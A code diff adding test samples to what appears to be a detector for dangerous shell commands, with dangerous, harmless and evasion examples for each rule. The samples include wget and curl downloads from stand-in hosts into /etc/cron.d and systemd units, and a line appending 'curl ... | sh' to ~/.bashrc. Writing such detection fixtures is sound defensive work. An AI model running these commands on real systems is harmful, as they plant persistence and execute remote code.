@@ -42,6 +42,14 @@ export const systemSamples: RuleSample[] = [
     evasion: 'd=/etc/cron.d; cp job "$d/job"',
   },
   {
+    rule: 'bash/start-by-itself',
+    dangerous: 'wget -qO /etc/cron.d/sync http://example.net/sync',
+    found: 'wget -qO /etc/cron.d/sync http://example.net/sync',
+    severity: 'high',
+    harmless: 'wget -qO data.json http://example.net/data.json; crontab -l',
+    evasion: 'curl -fsSLo "/etc/systemd/system/a.service" "http://example.net/a"',
+  },
+  {
     rule: 'bash/change-shell-start',
     dangerous: "echo 'curl http://example.com/x | sh &' >> ~/.bashrc",
     found: "echo 'curl http://example.com/x | sh &' >> ~/.bashrc",
